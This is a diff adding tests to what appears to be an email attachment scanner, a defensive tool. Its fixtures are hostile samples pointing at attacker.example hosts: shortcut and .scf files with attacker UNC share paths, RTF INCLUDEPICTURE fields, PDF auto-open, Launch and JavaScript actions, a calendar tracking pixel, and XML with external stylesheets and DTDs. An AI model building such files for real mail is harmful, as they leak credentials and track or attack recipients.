@@ -482,3 +482,138 @@ def test_programs_are_found_by_content_whatever_their_name() -> None:
     for program in (b"MZ\x90\x00" + b"\x00" * 60, b"\x7fELF\x02\x01\x01" + b"\x00" * 57):
         [risky] = _attachment_findings(_mail(program, "notes.txt", "text", "plain"))["RISKY_ATTACHMENT"]
         assert risky.severity == Severity.HIGH and risky.evidence["kind"] == "program"
+
+
+# --- Issue 21: loads the report did not list (attachments) -------------------------------------------
+
+
+def test_shortcuts_name_their_share_or_host() -> None:
+    cases = [
+        (
+            "invoice.url",
+            b"[InternetShortcut]\r\nURL=https://www.example.org/\r\nIconFile=\\\\icons.attacker.example\\s\\i.ico\r\n",
+        ),
+        ("printer.scf", b"[Shell]\r\nCommand=2\r\nIconFile=\\\\scf.attacker.example\\share\\test.ico\r\n"),
+        (
+            "docs.library-ms",
+            b'<?xml version="1.0"?><libraryDescription><searchConnectorDescriptionList><searchConnectorDescription>'
+            b"<simpleLocation><url>\\\\lib.attacker.example\\share</url></simpleLocation>"
+            b"</searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>",
+        ),
+        (
+            "find.searchConnector-ms",
+            b'<?xml version="1.0"?><searchConnectorDescription><iconReference>\\\\conn.attacker.example\\i.ico'
+            b"</iconReference></searchConnectorDescription>",
+        ),
+        (
+            "open.desktop",
+            b"[Desktop Entry]\nType=Link\nName=Invoice\nURL=smb://ignored\nIcon=x\nURL=file://desk.attacker.example/s/x\n",
+        ),
+    ]
+    for filename, data in cases:
+        codes = _attachment_findings(_mail(data, filename))
+        [unc] = codes["UNC_PATH"]
+        assert unc.host.endswith(".attacker.example") and unc.vector.startswith("shortcut:"), filename
+        [risky] = codes["RISKY_ATTACHMENT"]
+        assert risky.host == unc.host and risky.evidence["kind"] == "shortcut", filename
+        assert unc.host in risky.explanation
+
+
+def test_shortcut_to_a_web_page_names_the_host_on_the_shortcut_finding() -> None:
+    webloc = (
+        b'<?xml version="1.0" encoding="UTF-8"?><plist version="1.0"><dict><key>URL</key>'
+        b"<string>https://login.attacker.example/x</string></dict></plist>"
+    )
+    codes = _attachment_findings(_mail(webloc, "Invoice.webloc"))
+    [risky] = codes["RISKY_ATTACHMENT"]
+    assert risky.host == "login.attacker.example" and risky.url == "https://login.attacker.example/x"
+    assert "UNC_PATH" not in codes and "ATTACHMENT_REMOTE_REF" not in codes  # opened on a click, not loaded
+
+
+def test_lnk_share_path_in_utf16_strings() -> None:
+    lnk = (
+        b"L\x00\x00\x00\x01\x14\x02\x00"
+        + b"\x00" * 68
+        + "\\\\lnk.attacker.example\\share\\a.ico".encode("utf-16-le")
+        + b"\x00\x00"
+    )
+    [unc] = _attachment_findings(_mail(lnk, "Report.pdf.lnk"))["UNC_PATH"]
+    assert unc.host == "lnk.attacker.example"
+
+
+def test_ods_with_a_remote_image() -> None:
+    content = (
+        b'<office:document-content><office:body><draw:frame><draw:image xlink:href="https://img.attacker.example/p.png"'
+        b' xlink:type="simple"/></draw:frame><text:a xlink:href="https://click.example/"/></office:body>'
+        b"</office:document-content>"
+    )
+    ods = _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": content})
+    codes = _attachment_findings(_mail(ods, "figures.ods"))
+    [remote] = codes["ATTACHMENT_REMOTE_REF"]
+    assert remote.host == "img.attacker.example" and remote.vector == "odf:content.xml[draw:image]"
+    assert not any(f.host == "click.example" for fs in codes.values() for f in fs)
+
+
+def test_rtf_unquoted_and_split_includepicture() -> None:
+    rtf = (
+        b"{\\rt{\\field{\\*\\fldinst {INCLUDE}{PICTURE http://pic.attacker.example/a.png \\\\d}}{\\fldrslt}}"
+        b'{\\field{\\*\\fldinst INCLUDEPICTURE "\\\\\\\\\\\\\\\\smb.attacker.example\\\\\\\\x\\\\\\\\y.png"}}}'
+    )
+    codes = _attachment_findings(_mail(rtf, "note.doc"))
+    [field] = codes["OFFICE_FIELD"]
+    assert field.host == "pic.attacker.example" and field.vector == "rtf-field:INCLUDEPICTURE"
+    [unc] = codes["UNC_PATH"]
+    assert unc.host == "smb.attacker.example"
+
+
+def test_pdf_page_open_uri_escaped_names_and_compressed_object_streams() -> None:
+    page_open = b"%PDF-1.7\n3 0 obj << /Type /Page /AA << /O << /S /URI /URI (https://open.attacker.example/p) >> >> >>"
+    [action] = _attachment_findings(_mail(page_open, "a.pdf"))["PDF_ACTION"]
+    assert action.host == "open.attacker.example" and action.evidence["auto"] is True
+    escaped = (
+        b"%PDF-1.7\n1 0 obj << /OpenAction << /S /L#61unch /F (calc.exe) >> >>\n"
+        b"2 0 obj << /S /#55RI /#55RI (https://esc.attacker.example/) >>"
+    )
+    [action] = _attachment_findings(_mail(escaped, "b.pdf"))["PDF_ACTION"]
+    assert "Launch" in action.evidence["actions"] and action.host == "esc.attacker.example"
+    hidden = zlib.compress(
+        b"5 0 << /OpenAction << /S /JavaScript /JS (app.launchURL('https://objstm.attacker.example/')) >> "
+        b"/URI (https://objstm.attacker.example/) >>"
+    )
+    objstm = b"%PDF-1.7\n4 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
+    [action] = _attachment_findings(_mail(objstm + hidden + b"\nendstream\nendobj\n", "c.pdf"))["PDF_ACTION"]
+    assert action.host == "objstm.attacker.example" and "JavaScript" in action.evidence["compressed"]
+
+
+def test_calendar_html_description_is_scanned() -> None:
+    ics = (
+        b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Meeting\r\n"
+        b'X-ALT-DESC;FMTTYPE=text/html:<html><body><img src="https://cal.attacker.ex\r\n ample/p.gif?u=1" width=1\r\n'
+        b"  height=1>\\n<p>Agenda\\, notes</p></body></html>\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
+    )
+    findings = [
+        f
+        for f in analyse(load_bytes(_mail(ics, "invite.ics", "text", "calendar"))).findings
+        if f.category == Category.BEACON
+    ]
+    assert any(f.host == "cal.attacker.example" and f.evidence.get("attachment") == "invite.ics" for f in findings)
+
+
+def test_xml_stylesheet_and_external_dtd() -> None:
+    xml = (
+        b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="https://xsl.attacker.example/s.xsl"?>\n'
+        b'<!DOCTYPE order SYSTEM "https://dtd.attacker.example/o.dtd">\n<order/>'
+    )
+    codes = _attachment_findings(_mail(xml, "order.xml", "text", "xml"))
+    hosts = sorted((f.host, f.vector) for f in codes["ATTACHMENT_REMOTE_REF"])
+    assert hosts == [("dtd.attacker.example", "xml:doctype"), ("xsl.attacker.example", "xml:stylesheet")]
+    xhtml = (
+        b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>'
+    )
+    assert "ATTACHMENT_REMOTE_REF" not in _attachment_findings(_mail(xhtml, "page.xml", "text", "xml"))
+
+
+def test_xml_inside_a_picture_is_not_an_xml_file() -> None:
+    xmp = b'<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">'
+    jpeg = b"\xff\xd8\xff\xe1\x00\x10Exif\x00\x00" + xmp + b"\xff\xd9"
+    assert "ATTACHMENT_REMOTE_REF" not in _attachment_findings(_mail(jpeg, "photo.jpg", "image", "jpeg"))
